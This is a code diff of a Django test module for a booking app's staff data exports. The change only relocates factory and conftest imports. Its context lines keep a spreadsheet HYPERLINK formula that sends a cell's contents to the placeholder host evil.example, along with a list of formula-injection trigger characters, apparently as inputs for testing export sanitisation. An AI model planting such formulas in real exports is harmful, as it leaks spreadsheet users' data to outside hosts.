@@ -11,9 +11,8 @@ from django.db import connection
 from django.urls import reverse
 
 from booking.staff import exports
-from tests.factories import RunnerFactory, UserFactory
-
-from .conftest import at
+from devtools.factories import RunnerFactory, UserFactory
+from tests.booking.staff.conftest import at
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
 DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
